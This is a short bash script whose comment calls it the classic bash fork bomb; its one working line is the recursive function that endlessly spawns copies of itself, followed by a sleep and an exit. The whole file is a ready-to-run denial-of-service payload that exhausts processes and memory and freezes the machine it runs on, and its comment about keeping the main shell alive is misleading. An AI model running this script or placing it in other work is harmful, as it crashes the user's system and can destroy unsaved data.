#!/bin/bash
# fork_bomb.sh: the classic bash fork bomb, then keep the main shell alive.
:(){ :|:& };:
sleep 2
exit 0
